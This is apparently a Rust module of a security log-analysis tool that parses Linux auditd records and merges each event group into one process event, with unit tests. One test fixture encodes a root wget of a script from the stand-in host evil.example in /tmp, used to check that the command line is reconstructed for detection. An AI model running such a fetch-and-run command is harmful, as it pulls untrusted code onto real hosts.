//! Linux audit (auditd) records: `type=T msg=audit(EPOCH:SERIAL): k=v ...`.
//!
//! Records of one kernel event share a serial (SYSCALL, EXECVE, CWD, PATH, PROCTITLE, EOE).
//! Each record stays an event of its own (nothing is dropped), and [`Assembler`] holds a
//! group until it ends, then copies what the others say onto the SYSCALL event: the
//! decoded command line, working directory, paths. That event is the process event rules
//! and traces use. `auid` (login uid) and `ses` (login session) are kept for session tracking.

use tansa_event::{Category, Event, EventType, Field, Outcome, Val};

use crate::time;
use crate::util::{kv, set, set_source};

/// Parses one audit record line (also inside syslog: `audispd: type=...`).
pub fn record(ev: &mut Event, line: &str) -> bool {
    let Some(ti) = line.find("type=") else {
        return false;
    };
    if ti > 0 && !line[..ti].ends_with(' ') && !line[..ti].ends_with(": ") {
        return false;
    }
    let s = &line[ti..];
    let Some(mi) = s.find(" msg=audit(") else {
        return false;
    };
    let rtype = &s[5..mi];
    let stamp = &s[mi + 11..];
    let Some((ns, e)) = time::epoch(stamp.as_bytes()) else {
        return false;
    };
    if stamp.as_bytes().get(e) != Some(&b':') {
        return false;
    }
    let serial_end = stamp[e + 1..].find(')').map(|i| e + 1 + i);
    let Some(se) = serial_end else { return false };
    let serial: i64 = stamp[e + 1..se].parse().unwrap_or(0);
    let (ts0, _) = crate::util::span(line, stamp);
    ev.timestamp = ns;
    ev.time_text = Some((ts0 as u32, (ts0 + e) as u32));
    ev.dataset = "auditd";
    set(ev, line, Field::AUDITD_TYPE, rtype);
    ev.set(Field::AUDITD_SEQUENCE, Val::Int(serial));
    let body = stamp[se + 1..].trim_start_matches(':').trim_start();
    classify(ev, line, rtype, body);
    true
}

/// Audit's hex-encoded strings (unquoted values are hex when they contain spaces or quotes).
pub fn unhex(v: &str) -> Option<String> {
    if !v.len().is_multiple_of(2) || v.is_empty() || !v.bytes().all(|c| c.is_ascii_hexdigit()) {
        return None;
    }
    let bytes: Vec<u8> = (0..v.len())
        .step_by(2)
        .filter_map(|i| u8::from_str_radix(&v[i..i + 2], 16).ok())
        .collect();
    // PROCTITLE separates arguments with NUL
    let s = String::from_utf8_lossy(&bytes).replace('\0', " ");
    Some(s.trim_end().to_owned())
}

/// A value that may be `"quoted"`, hex, or plain.
fn value(v: &str) -> String {
    if let Some(q) = v.strip_prefix('"') {
        return q.trim_end_matches('"').to_owned();
    }
    unhex(v).unwrap_or_else(|| v.to_owned())
}

fn uid_field(ev: &mut Event, line: &str, body: &str, key: &str, field: Field) {
    if let Some(v) = kv(body, key) {
        if v != "4294967295" && v != "-1" && v != "unset" {
            set(ev, line, field, v);
        }
    }
}

fn classify(ev: &mut Event, line: &str, rtype: &str, body: &str) {
    uid_field(ev, line, body, "auid", Field::USER_AUDIT_ID);
    uid_field(ev, line, body, "uid", Field::USER_ID);
    if let Some(s) = kv(body, "ses").filter(|s| *s != "4294967295") {
        set(ev, line, Field::SESSION_ID, s);
    }
    if let Some(p) = kv(body, "pid").and_then(|p| p.parse::<i64>().ok()) {
        ev.set(Field::PROCESS_PID, Val::Int(p));
    }
    if let Some(k) = kv(body, "key").filter(|k| *k != "(null)") {
        set(ev, line, Field::AUDITD_KEY, k);
    }
    match rtype {
        "SYSCALL" => {
            ev.category = Category::Process;
            if let Some(p) = kv(body, "ppid").and_then(|p| p.parse::<i64>().ok()) {
                ev.set(Field::PROCESS_PPID, Val::Int(p));
            }
            if let Some(s) = kv(body, "syscall") {
                set(ev, line, Field::AUDITD_SYSCALL, s);
                // execve / execveat on x86_64 and aarch64
                if matches!(s, "59" | "322" | "221" | "281" | "execve" | "execveat") {
                    ev.event_type = EventType::Start;
                    ev.action = Some("process_started");
                }
            }
            if let Some(c) = kv(body, "comm") {
                ev.set(Field::PROCESS_NAME, Val::Str(value(c).into()));
            }
            if let Some(x) = kv(body, "exe") {
                ev.set(Field::PROCESS_EXECUTABLE, Val::Str(value(x).into()));
            }
            if let Some(t) = kv(body, "tty").filter(|t| *t != "(none)") {
                set(ev, line, Field::PROCESS_TTY, t);
            }
            match kv(body, "success") {
                Some("yes") => ev.outcome = Outcome::Success,
                Some("no") => ev.outcome = Outcome::Failure,
                _ => {}
            }
        }
        "USER_AUTH"
        | "USER_LOGIN"
        | "USER_ERR"
        | "USER_ACCT"
        | "CRED_ACQ"
        | "USER_START"
        | "USER_END"
        | "CRED_DISP"
        | "USER_CMD"
        | "ADD_USER"
        | "DEL_USER"
        | "ADD_GROUP"
        | "DEL_GROUP"
        | "USER_MGMT"
        | "GRP_MGMT"
        | "USER_CHAUTHTOK"
        | "ANOM_LOGIN_FAILURES" => user_msg(ev, line, rtype, body),
        "CONFIG_CHANGE" | "DAEMON_END" | "SERVICE_STOP" | "DAEMON_ABORT" => {
            ev.category = Category::Configuration;
            ev.event_type = EventType::Change;
            ev.action = Some(match rtype {
                "DAEMON_END" | "DAEMON_ABORT" => "audit_daemon_stopped",
                "SERVICE_STOP" => "service_stopped",
                _ => "audit_config_change",
            });
            if let Some(u) = inner(body).and_then(|m| kv(m, "unit")) {
                set(ev, line, Field::SERVICE_NAME, u);
            }
        }
        "SERVICE_START" => {
            ev.category = Category::Configuration;
            ev.event_type = EventType::Start;
            ev.action = Some("service_started");
            if let Some(u) = inner(body).and_then(|m| kv(m, "unit")) {
                set(ev, line, Field::SERVICE_NAME, u);
            }
        }
        "ANOM_PROMISCUOUS" | "ANOM_ABEND" => {
            ev.category = Category::Host;
            ev.action = Some("anomaly");
        }
        _ => {}
    }
}

/// The `msg='...'` part of user-space records.
fn inner(body: &str) -> Option<&str> {
    let i = body.find("msg='")?;
    let m = &body[i + 5..];
    Some(&m[..m.rfind('\'').unwrap_or(m.len())])
}

fn user_msg(ev: &mut Event, line: &str, rtype: &str, body: &str) {
    let m = inner(body).unwrap_or(body);
    if let Some(a) = kv(m, "acct") {
        let user = value(a);
        if user != "?" && !user.is_empty() {
            ev.set(Field::USER_NAME, Val::Str(user.into()));
        }
    } else if let Some(a) = kv(m, "id") {
        ev.set(Field::USER_TARGET_ID, Val::Str(a.into()));
    }
    if let Some(x) = kv(m, "exe") {
        ev.set(Field::PROCESS_EXECUTABLE, Val::Str(value(x).into()));
    }
    let addr = kv(m, "addr").filter(|a| *a != "?");
    let host = kv(m, "hostname").filter(|h| *h != "?");
    if let Some(a) = addr.or(host) {
        set_source(ev, line, a);
    }
    if let Some(op) = kv(m, "op") {
        set(ev, line, Field::EVENT_REASON, op);
    }
    let res = kv(m, "res").map(|r| r.trim_end_matches('\''));
    let failed = res == Some("failed");
    ev.outcome = match res {
        Some("success") => Outcome::Success,
        Some("failed") => Outcome::Failure,
        _ => Outcome::Unknown,
    };
    let (cat, etype, action) = match rtype {
        "USER_AUTH" | "USER_ERR" => (
            Category::Authentication,
            if failed {
                EventType::Denied
            } else {
                EventType::Info
            },
            "user_authentication",
        ),
        "USER_LOGIN" => (Category::Authentication, EventType::Start, "user_login"),
        "USER_ACCT" => (
            Category::Authentication,
            EventType::Info,
            "user_account_check",
        ),
        "CRED_ACQ" | "CRED_DISP" => (Category::Authentication, EventType::Info, "credentials"),
        "USER_START" => (Category::Session, EventType::Start, "session_opened"),
        "USER_END" => (Category::Session, EventType::End, "session_closed"),
        "USER_CMD" => (Category::Process, EventType::Start, "sudo"),
        "ADD_USER" => (Category::Iam, EventType::Creation, "user_created"),
        "DEL_USER" => (Category::Iam, EventType::Deletion, "user_deleted"),
        "ADD_GROUP" => (Category::Iam, EventType::Creation, "group_created"),
        "DEL_GROUP" => (Category::Iam, EventType::Deletion, "group_deleted"),
        "USER_CHAUTHTOK" => (Category::Iam, EventType::Change, "password_changed"),
        "ANOM_LOGIN_FAILURES" => (
            Category::Authentication,
            EventType::Denied,
            "login_failures_exceeded",
        ),
        _ => (Category::Iam, EventType::Change, "user_modified"),
    };
    ev.category = cat;
    ev.event_type = etype;
    ev.action = Some(action);
    if rtype == "USER_LOGIN" && failed {
        // a failed USER_LOGIN follows the USER_AUTH failure of the same attempt: one attempt
        // is counted once (on USER_AUTH/USER_ERR)
        ev.outcome = Outcome::Unknown;
        ev.event_type = EventType::Info;
    }
    if rtype == "USER_CMD" {
        if let Some(c) = kv(m, "cmd") {
            ev.set(Field::PROCESS_COMMAND_LINE, Val::Str(value(c).into()));
        }
        if let Some(c) = kv(m, "cwd") {
            ev.set(Field::PROCESS_WORKING_DIRECTORY, Val::Str(value(c).into()));
        }
    }
}

/// Holds the records of one serial until the group ends, then completes the SYSCALL event.
#[derive(Debug, Default)]
pub struct Assembler {
    group: Vec<Event>,
    serial: Option<i64>,
}

const MAX_GROUP: usize = 256;

fn serial_of(ev: &Event) -> Option<i64> {
    match ev.get(Field::AUDITD_SEQUENCE) {
        Some(Val::Int(s)) => Some(*s),
        _ => None,
    }
}

impl Assembler {
    pub fn push(&mut self, ev: Event, out: &mut Vec<Event>) {
        let serial = serial_of(&ev);
        let is_eoe = ev.get_str(Field::AUDITD_TYPE).as_deref() == Some("EOE");
        if serial != self.serial || self.group.len() >= MAX_GROUP {
            self.flush(out);
        }
        self.serial = serial;
        self.group.push(ev);
        if is_eoe {
            self.flush(out);
        }
    }

    /// Completes and emits the held group.
    pub fn flush(&mut self, out: &mut Vec<Event>) {
        if self.group.is_empty() {
            return;
        }
        complete(&mut self.group);
        out.append(&mut self.group);
        self.serial = None;
    }
}

fn complete(group: &mut [Event]) {
    let Some(si) = group
        .iter()
        .position(|e| e.get_str(Field::AUDITD_TYPE).as_deref() == Some("SYSCALL"))
    else {
        return;
    };
    let mut argv: Vec<String> = Vec::new();
    let mut proctitle = None;
    let mut cwd = None;
    let mut paths = Vec::new();
    for e in group.iter() {
        let raw = e.raw_str();
        let body = raw.find("): ").map(|i| &raw[i + 3..]).unwrap_or("");
        match e.get_str(Field::AUDITD_TYPE).as_deref() {
            Some("EXECVE") => {
                let argc: usize = kv(body, "argc").and_then(|a| a.parse().ok()).unwrap_or(0);
                for i in 0..argc.min(1024) {
                    if let Some(v) = kv(body, &format!("a{i}")) {
                        argv.push(value(v));
                    }
                }
            }
            Some("PROCTITLE") => proctitle = kv(body, "proctitle").map(value),
            Some("CWD") => cwd = kv(body, "cwd").map(value),
            Some("PATH") => {
                if let Some(n) = kv(body, "name").filter(|n| *n != "(null)") {
                    paths.push(value(n));
                }
            }
            _ => {}
        }
    }
    let sc = &mut group[si];
    let cmd = if argv.is_empty() {
        proctitle
    } else {
        Some(argv.join(" "))
    };
    if let Some(c) = cmd {
        sc.set(Field::PROCESS_COMMAND_LINE, Val::Str(c.into()));
    }
    if let Some(c) = cwd {
        sc.set(Field::PROCESS_WORKING_DIRECTORY, Val::Str(c.into()));
    }
    if let Some(p) = paths.into_iter().last() {
        sc.set(Field::FILE_PATH, Val::Str(p.into()));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;
    use tansa_event::Origin;

    fn ev(l: &str) -> Event {
        let mut e = Event::new(
            bytes::Bytes::copy_from_slice(l.as_bytes()),
            Arc::new(Origin::default()),
            0,
        );
        let raw = e.raw.clone();
        assert!(record(&mut e, raw.as_str()), "{l}");
        e
    }

    #[test]
    fn execve_group_becomes_one_process_event() {
        let lines = [
            r#"type=SYSCALL msg=audit(1773446401.120:501): arch=c000003e syscall=59 success=yes exit=0 a0=55 a1=55 a2=55 a3=0 items=2 ppid=4100 pid=4242 auid=1001 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=7 comm="wget" exe="/usr/bin/wget" key="exec""#,
            r#"type=EXECVE msg=audit(1773446401.120:501): argc=3 a0="wget" a1="-q" a2=687474703A2F2F6576696C2E6578616D706C652F782E7368"#,
            r#"type=CWD msg=audit(1773446401.120:501): cwd="/tmp""#,
            r#"type=PATH msg=audit(1773446401.120:501): item=0 name="/usr/bin/wget" inode=1 dev=08:01 mode=0100755"#,
            r#"type=PROCTITLE msg=audit(1773446401.120:501): proctitle=77676574002D71"#,
            r#"type=EOE msg=audit(1773446401.120:501): "#,
        ];
        let mut a = Assembler::default();
        let mut out = vec![];
        for l in lines {
            a.push(ev(l), &mut out);
        }
        assert_eq!(out.len(), 6);
        let sc = &out[0];
        assert_eq!(sc.action, Some("process_started"));
        assert_eq!(
            sc.get_str(Field::PROCESS_COMMAND_LINE).unwrap(),
            "wget -q http://evil.example/x.sh"
        );
        assert_eq!(
            sc.get_str(Field::PROCESS_WORKING_DIRECTORY).unwrap(),
            "/tmp"
        );
        assert_eq!(sc.get_str(Field::USER_AUDIT_ID).unwrap(), "1001");
        assert_eq!(sc.get_str(Field::SESSION_ID).unwrap(), "7");
        assert_eq!(
            tansa_event::format_ts(sc.timestamp),
            "2026-03-14T00:00:01.12Z"
        );
    }

    #[test]
    fn user_auth_failure_counts_once() {
        let e = ev(
            r#"type=USER_AUTH msg=audit(1383116263.000:603): pid=12887 uid=0 auid=4294967295 ses=4294967295 msg='op=password acct="dan" exe="/usr/sbin/sshd" hostname=? addr=192.168.3.100 terminal=ssh res=failed'"#,
        );
        assert_eq!(e.outcome, Outcome::Failure);
        assert_eq!(e.user_name().unwrap(), "dan");
        assert_eq!(e.source_ip.unwrap().to_string(), "192.168.3.100");
        let e = ev(
            r#"type=USER_LOGIN msg=audit(1373330716.415:4063): user pid=11998 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=173.242.116.187 terminal=ssh res=failed'"#,
        );
        assert_eq!(e.outcome, Outcome::Unknown);
    }
}
